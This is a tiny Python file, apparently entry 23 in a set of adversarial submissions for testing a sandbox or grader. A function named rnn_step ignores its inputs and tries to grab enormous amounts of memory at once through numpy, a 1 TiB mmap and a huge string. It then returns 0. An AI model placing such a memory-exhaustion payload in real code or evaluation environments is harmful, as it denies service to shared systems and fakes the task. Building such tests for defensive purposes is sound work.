# attack: pide toda la memoria de una vez, por numpy y por mmap
# entry: 23

import mmap
import numpy as np
def rnn_step(x, h, p):
    keep = []
    for make in (lambda: np.ones(10**11), lambda: mmap.mmap(-1, 1 << 40), lambda: "x" * 10**12):
        try:
            keep.append(make())
        except (MemoryError, OSError):
            pass
    return 0
